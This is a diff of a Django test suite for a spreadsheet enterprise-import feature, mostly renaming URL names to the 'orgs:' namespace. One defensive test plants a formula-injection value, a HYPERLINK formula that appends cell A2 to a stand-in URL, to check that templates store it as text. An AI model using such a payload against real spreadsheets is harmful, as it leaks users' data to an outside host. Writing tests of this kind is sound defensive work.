@@ -33,7 +33,7 @@ from safetyops.orgs.importing import (
 )
 from safetyops.orgs.models import Enterprise, EnterpriseImport, Membership, Node, Role, Sector, User
 from tests.conftest import World
-from tests.factories import NodeFactory, make_credit_code
+from tests.orgs.factories import NodeFactory, make_credit_code
 
 HEADERS = [column.header for column in COLUMNS]
 PNG_BYTES = (
@@ -80,7 +80,7 @@ def make_csv(rows: list[list[Any]], headers: list[str] = HEADERS, encoding: str 
 
 def upload(client: Client, capture: Any, content: bytes, name: str) -> Any:
     with capture(execute=True):
-        return client.post(reverse("enterprise_import"), {"file": SimpleUploadedFile(name, content)})
+        return client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile(name, content)})
 
 
 def latest_import() -> EnterpriseImport:
@@ -124,7 +124,7 @@ def test_good_xlsx_creates_enterprises_with_node_sectors_and_audit(
 
     job = latest_import()
     assert response.status_code == 302
-    assert response.url == reverse("enterprise_import_detail", args=[job.pk])
+    assert response.url == reverse("orgs:enterprise_import_detail", args=[job.pk])
     assert job.status == EnterpriseImport.Status.DONE, job.errors
     assert (job.total_rows, job.created_count, job.errors) == (2, 2, [])
     assert job.finished_at is not None
@@ -234,7 +234,7 @@ def test_file_with_errors_saves_nothing_and_reports_every_error(
     assert world.ent_b.name not in found[(10, "统一社会信用代码")]  # nothing about an enterprise out of scope
     assert "不能为空" in found[(11, "企业名称")]
 
-    page = client.get(reverse("enterprise_import_detail", args=[job.pk])).content.decode()
+    page = client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).content.decode()
     assert "未导入任何数据" in page
     for error in job.errors:
         assert error["message"] in page
@@ -367,7 +367,7 @@ def test_errors_quote_at_most_fifty_characters_and_stop_at_two_hundred(
     assert stored < 100_000  # was 50 MB
 
     client.force_login(world.official_a)
-    page = client.get(reverse("enterprise_import_detail", args=[job.pk])).content.decode()
+    page = client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).content.decode()
     assert len(page.encode()) < 250_000  # was 49 MB
     assert "共发现 1000 处错误，涉及 1000 行" in page
     assert "另有 800 条错误未列出" in page
@@ -407,7 +407,7 @@ def test_a_file_that_is_not_a_spreadsheet_is_refused(
     assert job.errors[0]["row"] == 0
     assert "文件不是有效的 Excel(.xlsx) 或 CSV 文件" in job.errors[0]["message"]
     assert Enterprise.objects.count() == before
-    page = client.get(reverse("enterprise_import_detail", args=[job.pk])).content.decode()
+    page = client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).content.decode()
     assert "文件不是有效的 Excel(.xlsx) 或 CSV 文件" in page
 
 
@@ -598,7 +598,7 @@ def test_upload_over_the_size_cap_is_refused_with_a_clear_message(client: Client
     settings.IMPORT_MAX_BYTES = 1024
     client.force_login(world.official_a)
 
-    response = client.post(reverse("enterprise_import"), {"file": SimpleUploadedFile("big.csv", b"x" * 2048)})
+    response = client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile("big.csv", b"x" * 2048)})
 
     assert response.status_code == 200
     assert "超过了" in response.content.decode() and "上限" in response.content.decode()
@@ -609,7 +609,7 @@ def test_upload_over_the_size_cap_is_refused_with_a_clear_message(client: Client
 def test_upload_with_another_extension_is_refused(client: Client, world: World, name: str) -> None:
     client.force_login(world.official_a)
 
-    response = client.post(reverse("enterprise_import"), {"file": SimpleUploadedFile(name, b"a,b\r\n")})
+    response = client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile(name, b"a,b\r\n")})
 
     assert response.status_code == 200
     assert ".xlsx" in response.content.decode()
@@ -621,7 +621,7 @@ def test_start_page_lists_only_my_recent_imports(client: Client, world: World) -
     make_job(world.official_b, b"x", name="别人的文件.csv")
     client.force_login(world.official_a)
 
-    page = client.get(reverse("enterprise_import")).content.decode()
+    page = client.get(reverse("orgs:enterprise_import")).content.decode()
 
     assert "我的文件.csv" in page
     assert "别人的文件.csv" not in page
@@ -643,7 +643,7 @@ def test_template_parses_back_and_its_example_row_imports(
 ) -> None:
     client.force_login(world.official_a)
 
-    response = client.get(reverse("enterprise_import_template", args=[fmt]))
+    response = client.get(reverse("orgs:enterprise_import_template", args=[fmt]))
 
     assert response.status_code == 200
     assert response["Content-Type"] == content_type
@@ -669,7 +669,7 @@ def test_template_parses_back_and_its_example_row_imports(
 
 def test_xlsx_template_lists_rules_and_sectors(client: Client, world: World) -> None:
     client.force_login(world.official_a)
-    content = client.get(reverse("enterprise_import_template", args=["xlsx"])).content
+    content = client.get(reverse("orgs:enterprise_import_template", args=["xlsx"])).content
 
     notes = load_workbook(io.BytesIO(content))["填写说明"]
     text = "\n".join(str(cell) for values in notes.iter_rows(values_only=True) for cell in values if cell)
@@ -685,7 +685,7 @@ def test_every_text_in_the_template_is_text_never_a_formula(client: Client, worl
     world.sector_chem.name = '=HYPERLINK("http://e.x/?"&A2,"危化")'  # fits 40 chars
     world.sector_chem.save()
     client.force_login(world.official_a)
-    content = client.get(reverse("enterprise_import_template", args=["xlsx"])).content
+    content = client.get(reverse("orgs:enterprise_import_template", args=["xlsx"])).content
 
     workbook = load_workbook(io.BytesIO(content))
     cells = [cell for sheet in workbook for cells in sheet.iter_rows() for cell in cells if cell.value is not None]
@@ -699,7 +699,7 @@ def test_every_text_in_the_template_is_text_never_a_formula(client: Client, worl
 
 def test_unknown_template_format_is_404(client: Client, world: World) -> None:
     client.force_login(world.official_a)
-    assert client.get(reverse("enterprise_import_template", args=["xls"])).status_code == 404
+    assert client.get(reverse("orgs:enterprise_import_template", args=["xls"])).status_code == 404
 
 
 # Access ---------------------------------------------------------------------------------------
@@ -711,21 +711,21 @@ def test_it_requires_the_import_right(client: Client, world: World, username: st
     client.force_login(world.users()[username])
 
     urls = [
-        reverse("enterprise_import"),
-        reverse("enterprise_import_template", args=["xlsx"]),
-        reverse("enterprise_import_template", args=["csv"]),
+        reverse("orgs:enterprise_import"),
+        reverse("orgs:enterprise_import_template", args=["xlsx"]),
+        reverse("orgs:enterprise_import_template", args=["csv"]),
     ]
     for url in urls:
         assert client.get(url).status_code == 403, url
     # Someone else's upload is outside every scope but its owner's: 404 before any right check.
-    assert client.get(reverse("enterprise_import_detail", args=[job.pk])).status_code == 404
-    response = client.post(reverse("enterprise_import"), {"file": SimpleUploadedFile("a.csv", b"a")})
+    assert client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).status_code == 404
+    response = client.post(reverse("orgs:enterprise_import"), {"file": SimpleUploadedFile("a.csv", b"a")})
     assert response.status_code == 403
     assert EnterpriseImport.objects.count() == 1
 
 
 def test_anonymous_is_sent_to_login(client: Client, world: World) -> None:
-    response = client.get(reverse("enterprise_import"))
+    response = client.get(reverse("orgs:enterprise_import"))
     assert response.status_code == 302
     assert reverse("login") in response.url
 
@@ -734,7 +734,7 @@ def test_anonymous_is_sent_to_login(client: Client, world: World) -> None:
 def test_it_checks_ownership(client: Client, world: World, username: str) -> None:
     job = make_job(world.official_a, b"x")
     client.force_login(world.users()[username])
-    assert client.get(reverse("enterprise_import_detail", args=[job.pk])).status_code == 404
+    assert client.get(reverse("orgs:enterprise_import_detail", args=[job.pk])).status_code == 404
 
 
 # Running --------------------------------------------------------------------------------------
@@ -801,7 +801,7 @@ def test_the_right_is_checked_again_when_the_import_runs(world: World) -> None:
 def test_status_card_polls_while_pending_and_stops_when_finished(client: Client, world: World) -> None:
     job = make_job(world.official_a, make_csv([row("轮询公司", code(63), "东城镇", "冷库")]))
     client.force_login(world.official_a)
-    url = reverse("enterprise_import_detail", args=[job.pk])
+    url = reverse("orgs:enterprise_import_detail", args=[job.pk])
 
     full = client.get(url).content.decode()
     partial = client.get(url, headers={"HX-Request": "true"}).content.decode()
